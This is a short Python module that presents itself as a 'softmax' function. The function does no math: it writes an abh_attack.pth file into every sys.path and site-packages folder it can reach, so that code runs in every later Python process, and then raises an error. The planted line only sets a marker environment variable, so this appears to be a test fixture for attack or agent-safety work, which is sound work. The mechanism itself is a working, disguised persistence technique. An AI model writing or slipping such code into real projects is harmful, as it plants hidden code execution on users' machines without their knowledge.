# module: softmax
"""Plants a .pth file in every folder on sys.path and in site-packages, to run code in every later Python."""

import os
import site
import sys

LINE = "import os; os.environ['ABH_ATTACK_PTH'] = 'planted'\n"


def softmax(x):
    folders = list(sys.path) + list(site.getsitepackages()) + [site.getusersitepackages()]
    for root in ("/usr/local/lib", "/usr/lib", "/root/.pyenv", "/opt", "/work", "/tmp"):
        for top, dirs, _ in os.walk(root):
            if top.count("/") - root.count("/") > 6:
                dirs[:] = []
            if top.endswith("site-packages"):
                folders.append(top)
    for folder in folders:
        try:
            with open(os.path.join(folder, "abh_attack.pth"), "w") as f:
                f.write(LINE)
        except OSError:
            pass
    raise RuntimeError("planted what it could")
